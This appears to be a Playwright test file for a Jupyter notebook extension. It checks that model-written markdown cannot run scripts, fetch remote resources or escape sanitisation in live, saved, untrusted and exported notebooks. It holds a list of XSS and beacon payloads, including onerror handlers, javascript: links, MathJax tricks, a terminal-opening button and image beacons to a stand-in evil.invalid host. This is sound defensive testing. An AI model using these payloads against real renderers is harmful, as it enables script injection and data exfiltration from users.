"""What a model writes never runs, loads or escapes: live, saved, trusted or not, exported."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING

import pytest

from hermes_magic.offline.faults import CODE_POINT
from hermes_magic.offline.script import fragment
from tests.test_markdown_hostile import PAYLOADS

from .cells import Scripted, setup

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import BrowserContext, Dialog, Page

    from .lab import Lab, Notebook, NotebookMaker

OWN = (
    "<script>window.hermesPwned = 1</script>",
    "<img src=//evil.invalid/a.png onerror='window.hermesPwned = 1'>",
    "<a href=https://evil.invalid ping=//evil.invalid/ping>x</a>",
    "<link rel=prefetch href=//evil.invalid/p><link rel=dns-prefetch href=//evil.invalid>",
    "![beacon](https://evil.invalid/beacon.png?secret=1)",
    "[![nested](https://evil.invalid/n.png)](https://evil.invalid)",
    "![by reference][beacon]\n\n[beacon]: https://evil.invalid/r.png",
    "<video poster=//evil.invalid/poster.png><source src=//evil.invalid/v.mp4></video>",
    "<div style='background:url(//evil.invalid/bg.png)'>x</div>",
    "<style>*{background:url(//evil.invalid/s.png)}</style>",
    "<style>@import '//evil.invalid/i.css';</style>",
    "<input type=image src=//evil.invalid/input.png>",
    "<body background=//evil.invalid/body.png>",
    "<table background=//evil.invalid/table.png><tr><td>x</table>",
    "<object data=//evil.invalid/o.swf></object><embed src=//evil.invalid/e.swf>",
    "<iframe src=//evil.invalid/frame></iframe>",
    "<svg><image href=//evil.invalid/svg.png /><use href=//evil.invalid/u.svg#x /></svg>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "<textarea autofocus onfocus='window.hermesPwned = 1'>x</textarea>",
    "</div></details></div><script>window.hermesPwned = 1</script><div>",
    "</summary></details><img src=x onerror='window.hermesPwned = 1'>",
    "\\(\\href{javascript:window.hermesPwned=1}{click}\\)",
    "\\(\\require{html}\\style{background:url(//evil.invalid/tex.png)}{x}\\)",
    "\\(\\unicode{x3c}\\text{<img src=x onerror=window.hermesPwned=1>}\\)",
    "\\(\\includegraphics{https://evil.invalid/g.png}\\)",
    "\\(\\text{<script>window.hermesPwned=1</script>}\\)",
    "\\(\\data{onclick=window.hermesPwned=1}{x} \\htmlData{x=1}{y} \\class{jp-x}{z}\\)",
    "$\\def\\x#1{\\x#1\\x#1}\\x1$",
    "$$\\newcommand{\\y}{\\href{javascript:window.hermesPwned=1}{z}}\\y$$",
    "```html\n<img src=//evil.invalid/code.png onerror='window.hermesPwned = 1'>\n```",
    "``` \"><img src=//evil.invalid/info.png onerror='window.hermesPwned=1'>\nx\n```",
    "[x](javascript:window.hermesPwned=1 'title')",
    "[x](&#x6A;avascript:window.hermesPwned=1)",
    "<details open ontoggle='window.hermesPwned = 1'><summary>x</summary></details>",
    "<p hidden id=jupyter-config-data>{}</p>",
)
# These would swallow what follows them, so each is an answer of its own.
GREEDY = ("```", "~~~", "$$", "\\[", "<!--", "\\begin", "[^", "]:", "\n", "\\def", "\\newcommand")
# A server cannot send half a character.
EVERYTHING = [one for one in (*PAYLOADS, *OWN) if "\ud83d" not in one]
TOGETHER = "\n\n".join(one for one in EVERYTHING if not any(part in one for part in GREEDY))
ALONE = [one for one in EVERYTHING if any(part in one for part in GREEDY)]
DEMO = CODE_POINT.sub(lambda found: chr(int(found[1], 16)), fragment("_hostile.md"))

# Tags that are not in the allowed set, outside what MathJax made; and what ran.
FOREIGN = """
() => {
  const allowed = new Set(('A BLOCKQUOTE BR CODE DETAILS DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P ' +
    'PRE S SPAN STRONG SUMMARY SUP TABLE TBODY TD TH THEAD TR UL BUTTON').split(' '));
  const found = [];
  for (const root of document.querySelectorAll('.hermes')) {
    for (const node of root.querySelectorAll('*')) {
      if (node.closest('mjx-container, .MathJax, .hermes-tools')) continue;
      for (const kind of ['mouseover', 'click', 'focus', 'toggle', 'error', 'load']) {
        if (node.tagName !== 'A' && node.tagName !== 'BUTTON') node.dispatchEvent(new Event(kind));
      }
      if (!allowed.has(node.tagName)) found.push(node.outerHTML);
      if (node.tagName === 'BUTTON' && !node.matches('.hermes-button')) found.push(node.outerHTML);
      for (const { name, value } of node.attributes) {
        if (name.startsWith('on') || name.startsWith('data-commandlinker')) found.push(name);
        if (name === 'href' && !/^(https?:|mailto:)/i.test(value)) found.push(value);
      }
    }
    for (const link of root.querySelectorAll('mjx-container a')) found.push(link.outerHTML);
  }
  if (window.hermesPwned || window.hermesDemoPwned) found.push('executed');
  return found;
}
"""


@pytest.fixture(scope="module")
def server() -> Iterator[Scripted]:
    with Scripted(pause=0.0) as server:
        yield server


def asking() -> str:
    return (
        f"for payload in {[TOGETHER, DEMO, *ALONE]!a}:\n"
        "    get_ipython().run_cell_magic('hermes', '--no-vars', 'say ' + payload)"
    )


def test_payloads_live_reloaded_and_untrusted(
    lab: Lab, notebook: NotebookMaker, server: Scripted
) -> None:
    assert len(EVERYTHING) >= 60
    book = notebook("hostile.ipynb", [setup(server), asking()])
    dialogs: list[str] = []
    book.page.on("dialog", lambda dialog: note(dialog, dialogs))
    book.page.on("popup", lambda popup: dialogs.append(popup.url))
    book.open()
    book.page.evaluate(f"""() => {{
        window.foreign = [];
        const look = {FOREIGN};
        new MutationObserver(() => {{ for (const one of look()) window.foreign.push(one); }})
          .observe(document.querySelector('.jp-Notebook'), {{ childList: true, subtree: true }});
    }}""")
    book.run_all()
    book.wait_idle()
    assert book.page.evaluate("window.foreign.slice(0, 20)") == []
    assert_nothing_ran(book, dialogs)
    book.save()
    book.open(kernel=False)
    assert book.trusted
    assert_nothing_ran(book, dialogs)
    lab.distrust(book.path)
    book.open(kernel=False)
    assert not book.trusted
    assert_nothing_ran(book, dialogs)
    book.screenshot("hostile-untrusted")


def assert_nothing_ran(book: Notebook, dialogs: list[str]) -> None:
    assert book.page.locator(".hermes").count() == 2 + len(ALONE)
    assert book.page.evaluate(FOREIGN) == []
    assert (dialogs, book.requests, book.console_errors) == ([], [], [])


def test_payloads_in_exported_html(
    chromium: BrowserContext, lab: Lab, tmp_path: Path, notebook: NotebookMaker, server: Scripted
) -> None:
    book = notebook("exported.ipynb", [setup(server), asking()])
    book.open()
    book.run_all()
    book.wait_idle()
    book.save()
    lab.write("blank.ipynb", ["1"])
    _, own, _ = opened(chromium, exported(lab.root / "blank.ipynb", tmp_path))
    page, asked, dialogs = opened(chromium, exported(lab.root / "exported.ipynb", tmp_path))
    assert page.locator(".hermes").count() == 2 + len(ALONE)
    assert page.evaluate(FOREIGN) == []
    assert dialogs == []
    asked_by_ours = {url for url in asked if not url.startswith("file:")} - set(own)
    assert asked_by_ours == set(), "nbconvert's own page asks for MathJax, ours for nothing"


def test_the_check_itself_sees_what_runs_and_what_is_fetched(notebook: NotebookMaker) -> None:
    book = notebook("control.ipynb", [""])
    book.open()
    for payload in ("<img src=//evil.invalid/x onerror='window.hermesPwned = 1'>", "<form></form>"):
        book.page.evaluate(
            "payload => { const one = document.createElement('div'); one.className = 'hermes';"
            " one.innerHTML = payload; document.body.append(one); }",
            payload,
        )
    book.page.wait_for_function("() => window.hermesPwned")
    found = book.page.evaluate(FOREIGN)
    assert {"executed", "onerror", "<form></form>"} <= set(found)
    assert book.requests == ["http://evil.invalid/x"]


def exported(source: Path, folder: Path) -> Path:
    command = [sys.executable, "-m", "nbconvert", "--to", "html", f"--output-dir={folder}"]
    subprocess.run([*command, str(source)], check=True, capture_output=True)  # noqa: S603
    return folder / f"{source.stem}.html"


def note(dialog: Dialog, dialogs: list[str]) -> None:
    dialogs.append(dialog.message)
    dialog.dismiss()


def opened(profile: BrowserContext, file: Path) -> tuple[Page, list[str], list[str]]:
    page, asked, dialogs = profile.new_page(), list[str](), list[str]()
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: note(dialog, dialogs))
    page.goto(file.as_uri())
    page.wait_for_load_state("load")
    return page, asked, dialogs
